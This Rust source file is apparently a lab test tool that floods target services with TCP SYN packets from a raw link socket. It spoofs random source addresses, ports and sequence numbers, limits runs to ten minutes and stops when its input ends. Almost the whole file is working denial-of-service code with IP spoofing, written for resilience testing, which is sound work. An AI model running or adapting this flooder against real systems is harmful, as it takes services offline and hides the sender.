//! A SYN flood: SYNs from random addresses and ports to the pool's services, at a rate or as fast as they go, by one
//! thread, for a bounded time or until its standard input ends. Runs on a host of the lab; says at its end how much it sent.

use std::io::{self, Write as _};
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::process::ExitCode;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use autocluster_tests::packet::checksum;
use autocluster_tests::packet::frames::{Envelope, Segment, frame};
use autocluster_tests::packet::link::LinkSocket;
use clap::Parser;
use nix::errno::Errno;
use serde_json::json;

const BATCH: usize = 256;
/// A flood that nobody ends, ends.
const LONGEST_S: u64 = 600;
const ETHERNET: usize = 14;
const V4_LENGTH: usize = 20;
const V6_LENGTH: usize = 40;
const V4_SOURCE: usize = ETHERNET + 12;
const V4_CHECKSUM: usize = ETHERNET + 10;
const V6_SOURCE: usize = ETHERNET + 8;

#[derive(Parser)]
#[command(name = "flood", about = "Send SYNs from random addresses")]
struct Cli {
    /// Where it leaves
    #[arg(long, default_value = "eth0")]
    interface: String,
    /// Hardware addresses of sender and receiver of the frames: aa:bb:cc:dd:ee:ff
    #[arg(long, value_parser = mac)]
    from: [u8; 6],
    #[arg(long, value_parser = mac)]
    to: [u8; 6],
    /// Services, in turn
    #[arg(long = "target", required = true)]
    targets: Vec<SocketAddr>,
    /// SYNs per second; 0: as fast as they go
    #[arg(long, default_value_t = 0)]
    rate: u32,
    #[arg(long, value_parser = clap::value_parser!(u64).range(1..=LONGEST_S))]
    seconds: u64,
    /// The same seed makes the same flood
    #[arg(long, default_value_t = 1)]
    seed: u64,
}

fn mac(text: &str) -> Result<[u8; 6], String> {
    let octets: Result<Vec<u8>, _> = text.split(':').map(|octet| u8::from_str_radix(octet, 16)).collect();
    octets.ok().and_then(|octets| octets.try_into().ok()).ok_or_else(|| format!("{text}: no hardware address"))
}

fn main() -> ExitCode {
    match flood(&Cli::parse()) {
        Ok(()) => ExitCode::SUCCESS,
        Err(error) => {
            drop(writeln!(io::stderr(), "flood: {error:#}"));
            ExitCode::FAILURE
        }
    }
}

/// xorshift64* (Vigna, 2016): cheap, and nothing here needs more.
struct Dice(u64);

impl Dice {
    const fn roll(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

fn flood(cli: &Cli) -> anyhow::Result<()> {
    ensure!(cli.seed != 0, "the seed must not be 0");
    let link = LinkSocket::open(&cli.interface)?;
    link.bypass_queue()?;
    let envelope = Envelope { source: cli.from, destination: cli.to, vlan: None };
    let templates: Vec<Vec<u8>> =
        cli.targets.iter().map(|target| template(envelope, *target)).collect::<Result<_, _>>()?;
    let mut batch: Vec<Vec<u8>> = templates.iter().cycle().take(BATCH).cloned().collect();
    let mut dice = Dice(cli.seed);
    let (start, length) = (Instant::now(), Duration::from_secs(cli.seconds));
    let (mut sent, mut refused) = (0u64, 0u64);
    let ended = input_ended();
    while start.elapsed() < length && !ended.load(Ordering::Relaxed) {
        batch.iter_mut().for_each(|frame| disguise(frame, &mut dice));
        match link.send_many(&batch) {
            Ok(count) => sent += count as u64,
            // The driver's queue is full: that is as fast as they go.
            Err(error) if error.raw_os_error() == Some(Errno::ENOBUFS as i32) => refused += 1,
            Err(error) => return Err(error).context("failed to send"),
        }
        if cli.rate > 0 {
            let due = Duration::from_secs(1).mul_f64(sent as f64 / f64::from(cli.rate));
            thread::sleep(due.saturating_sub(start.elapsed()));
        }
    }
    let report = json!({"sent": sent, "refused": refused, "seconds": start.elapsed().as_secs_f64()});
    writeln!(io::stdout(), "{report}")?;
    Ok(())
}

/// Becomes true when standard input ends.
fn input_ended() -> Arc<AtomicBool> {
    let ended = Arc::new(AtomicBool::new(false));
    let told = Arc::clone(&ended);
    thread::spawn(move || {
        // Whether it ended well or not: whoever started the flood is gone, or wants no more of it.
        drop(io::copy(&mut io::stdin().lock(), &mut io::sink()));
        told.store(true, Ordering::Relaxed);
    });
    ended
}

/// A SYN to a target, from nowhere yet.
fn template(envelope: Envelope, target: SocketAddr) -> anyhow::Result<Vec<u8>> {
    let nowhere: IpAddr = if target.is_ipv4() { Ipv4Addr::UNSPECIFIED.into() } else { Ipv6Addr::UNSPECIFIED.into() };
    Ok(frame(envelope, &Segment::syn(SocketAddr::new(nowhere, 0), target, 0).packet()?))
}

/// Gives a SYN another source, port and sequence number, with right checksums: those of an attacker are right too.
fn disguise(frame: &mut [u8], dice: &mut Dice) {
    let v6 = frame.get(ETHERNET).is_some_and(|first| first >> 4 == 6);
    let tcp = ETHERNET + if v6 { V6_LENGTH } else { V4_LENGTH };
    let (high, low) = (dice.roll().to_be_bytes(), dice.roll().to_be_bytes());
    if v6 {
        frame[V6_SOURCE..V6_SOURCE + 8].copy_from_slice(&high);
        frame[V6_SOURCE + 8..V6_SOURCE + 16].copy_from_slice(&low);
        // Global addresses (RFC 4291 section 2.4).
        frame[V6_SOURCE] = 0x20 | (high[0] & 0x1f);
    } else {
        frame[V4_SOURCE..V4_SOURCE + 4].copy_from_slice(&high[..4]);
        // 11.0.0.0 to 126.255.255.255: none of them is special, or the lab's.
        frame[V4_SOURCE] = 11 + high[0] % 116;
        frame[V4_CHECKSUM..V4_CHECKSUM + 2].fill(0);
        let sum = checksum::of(&frame[ETHERNET..tcp], 0);
        frame[V4_CHECKSUM..V4_CHECKSUM + 2].copy_from_slice(&sum.to_be_bytes());
    }
    let numbers = dice.roll().to_be_bytes();
    frame[tcp..tcp + 2].copy_from_slice(&numbers[..2]);
    frame[tcp] |= 0x04; // 1,024 and more
    frame[tcp + 4..tcp + 8].copy_from_slice(&numbers[2..6]);
    frame[tcp + 16..tcp + 18].fill(0);
    let addresses = if v6 { &frame[V6_SOURCE..V6_SOURCE + 32] } else { &frame[V4_SOURCE..V4_SOURCE + 8] };
    let pseudo = checksum::sum(addresses) + 6 + (frame.len() - tcp) as u64;
    let sum = checksum::of(&frame[tcp..], pseudo);
    frame[tcp + 16..tcp + 18].copy_from_slice(&sum.to_be_bytes());
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use autocluster_tests::packet::Packet;

    use super::*;

    #[test]
    fn every_syn_is_another_one_and_right() {
        let envelope = Envelope { source: [2; 6], destination: [4; 6], vlan: None };
        let mut dice = Dice(7);
        let mut sources = HashSet::new();
        for target in ["10.77.0.100:25", "[fd77::100]:143"] {
            let mut frame = template(envelope, target.parse().unwrap()).unwrap();
            for _ in 0..1000 {
                disguise(&mut frame, &mut dice);
                let packet = Packet::parse(&frame).unwrap();
                assert!(packet.faults.is_empty(), "{packet:?}");
                let tcp = packet.tcp().unwrap();
                assert!(tcp.flags.syn && !tcp.flags.ack && tcp.source >= 1024, "{packet:?}");
                sources.insert((packet.ip.unwrap().source, tcp.source));
            }
        }
        assert!(sources.len() > 1990, "{}", sources.len());
    }
}
